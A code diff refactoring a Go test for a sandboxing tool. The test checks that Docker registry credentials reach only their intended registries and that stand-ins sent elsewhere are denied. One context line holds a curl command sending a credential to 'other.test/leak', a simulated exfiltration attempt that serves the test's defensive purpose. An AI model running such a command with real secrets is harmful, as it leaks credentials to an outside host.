@@ -1,7 +1,6 @@
 package main
 
 import (
-	"crypto/rand"
 	"crypto/tls"
 	"encoding/base64"
 	"fmt"
@@ -10,46 +9,12 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
-	"runtime"
 	"strings"
 	"sync"
 	"testing"
 
-	"golang.org/x/sys/unix"
-
 	"github.com/sysprof/sysprof/internal/testutil"
-	"github.com/sysprof/sysprof/report"
 )
-
-const dockerProfile = `apiVersion: sysprof.dev/v1
-kind: Profile
-metadata: {name: registry-client, command: [python3], runs: 1, incomplete: false}
-syscalls:
-  architectures: [x86_64]
-  allow: [%s]
-filesystem:
-  read:
-    - {path: /etc}
-    - {path: /usr}
-    - {path: /proc}
-    - {path: /dev/urandom}
-    - {path: $WORKDIR}
-  write:
-    - {path: /dev/null}
-    - {path: $WORKDIR}
-  exec:
-    - {path: /usr/bin}
-    - {path: /usr/lib}
-  privateTmp: true
-network:
-  connect:
-    - {endpoint: "registry.test:443", proto: tcp}
-    - {endpoint: "token.test:443", proto: tcp}
-    - {endpoint: "other.test:80", proto: tcp}
-credentials:
-  - {file: $HOME/.docker/config.json, key: auths.registry.test.auth, hosts: [registry.test], how: basic}
-  - {file: $HOME/.docker/config.json, key: auths.token.test.identitytoken, hosts: [token.test], how: bearer}
-`
 
 // dockerClient does what a registry client does with ~/.docker/config.json: the auth of
 // registry.test as Basic, the identitytoken of token.test as Bearer, to their /v2/ APIs.
@@ -78,55 +43,17 @@ curl -sS -m 10 -o /dev/null -u "me:$S" http://other.test/leak 2>/dev/null; echo 
 // other as Bearer. Inside, config.json holds stand-ins only; the registries get the real
 // values; the canary finds no trace of them; the stand-in sent elsewhere is refused.
 func TestCredentialsDockerBrokered(t *testing.T) {
-	testutil.RequireRoot(t)
-	testutil.RequireTool(t, "curl")
-	testutil.RequireTool(t, "ip")
-	testutil.RequireTool(t, "python3")
-	bin, err := sysprofBinary()
-	if err != nil {
-		t.Fatal(err)
-	}
-	errc := make(chan error, 1)
-	go func() { // a network namespace of the test's own (see TestCredentialsNpmBrokered)
-		runtime.LockOSThread()
-		if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
-			errc <- testutil.NotAvailable("unshare(CLONE_NEWNET): %v", err)
-			return
-		}
-		errc <- dockerInNetns(bin)
-	}()
-	if err := <-errc; err != nil {
-		testutil.RequireNoErr(t, "docker credentials run", err)
-	}
+	brokeredRun(t, "docker credentials run", dockerInNetns, "curl", "python3")
 }
 
 func dockerInNetns(bin string) error {
-	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", regAddr + "/32", "dev", "lo"}} {
-		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
-			return fmt.Errorf("ip %v: %v: %s", args, err, out)
-		}
-	}
-	base, err := os.MkdirTemp("", "sysprof-dockercreds-")
+	base, caFile, leaf, err := credsBase("sysprof-dockercreds-", "registry.test", "token.test")
 	if err != nil {
 		return err
 	}
 	defer os.RemoveAll(base)
-	os.Chmod(base, 0o755)
-	random := func() string {
-		b := make([]byte, 32)
-		rand.Read(b)
-		for i := range b {
-			b[i] = "abcdefghijklmnopqrstuvwxyz0123456789"[int(b[i])%36]
-		}
-		return string(b)
-	}
+	random := func() string { return randomSecret(32) }
 	pass, token := random(), random()
-	caPEM, leaf, err := testCA("registry.test", "token.test")
-	if err != nil {
-		return err
-	}
-	caFile := filepath.Join(base, "ca.pem")
-	os.WriteFile(caFile, caPEM, 0o644)
 	var mu sync.Mutex
 	var saw, otherSaw []string
 	ln, err := net.Listen("tcp", regAddr+":443")
@@ -158,16 +85,10 @@ func dockerInNetns(bin string) error {
 	})}
 	go srv.Serve(tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{leaf}}))
 	defer srv.Close()
-	ln2, err := net.Listen("tcp", regAddr+":80")
+	other, err := serveOther(&mu, &otherSaw)
 	if err != nil {
 		return err
 	}
-	other := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		mu.Lock()
-		otherSaw = append(otherSaw, fmt.Sprint(r.Method, " ", r.URL, " ", r.Header))
-		mu.Unlock()
-	})}
-	go other.Serve(ln2)
 	defer other.Close()
 
 	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
@@ -181,7 +102,10 @@ func dockerInNetns(bin string) error {
 }, "credsStore": "desktop"}
 `), 0o600)
 	os.WriteFile(filepath.Join(work, "client.py"), []byte(dockerClient), 0o644)
-	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(fmt.Sprintf(dockerProfile, allSyscalls())), 0o644)
+	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(brokerProfile("{name: registry-client, command: [python3], runs: 1, incomplete: false}", "",
+		[]string{"registry.test:443", "token.test:443", "other.test:80"},
+		[]string{"{file: $HOME/.docker/config.json, key: auths.registry.test.auth, hosts: [registry.test], how: basic}",
+			"{file: $HOME/.docker/config.json, key: auths.token.test.identitytoken, hosts: [token.test], how: bearer}"})), 0o644)
 	repFile := filepath.Join(base, "rep.json")
 	needles := pass[4:20] + "\n" + token[4:20] // grep -F: either
 	cmd := exec.Command(bin, "enforce", "-p", "prof.yaml", "--report", repFile, "--resolve", "registry.test="+regAddr,
@@ -219,11 +143,7 @@ func dockerInNetns(bin string) error {
 		!strings.Contains(server, "token.test GET /v2/ Bearer "+token) || strings.Contains(server, standIn):
 		return fail("the registries did not get the real values (and only them)")
 	}
-	data, err := os.ReadFile(repFile)
-	if err != nil {
-		return err
-	}
-	rep, err := report.Parse(data)
+	rep, _, err := readReportFile(repFile)
 	if err != nil {
 		return err
 	}
@@ -237,11 +157,7 @@ func dockerInNetns(bin string) error {
 		!uses["$HOME/.docker/config.json auths.token.test.identitytoken token.test:443/v2/"] {
 		return fail("uses: %+v", rep.CredentialUses)
 	}
-	crit := false
-	for _, d := range rep.Denials {
-		crit = crit || d.Risk == report.RiskCritical && strings.Contains(d.What, "tried to send the stand-in of $HOME/.docker/config.json auths.registry.test.auth")
-	}
-	if !crit {
+	if !standInDenied(rep, "$HOME/.docker/config.json auths.registry.test.auth") {
 		return fail("no critical denial for the stand-in sent to other.test: %+v", rep.Denials)
 	}
 	return nil
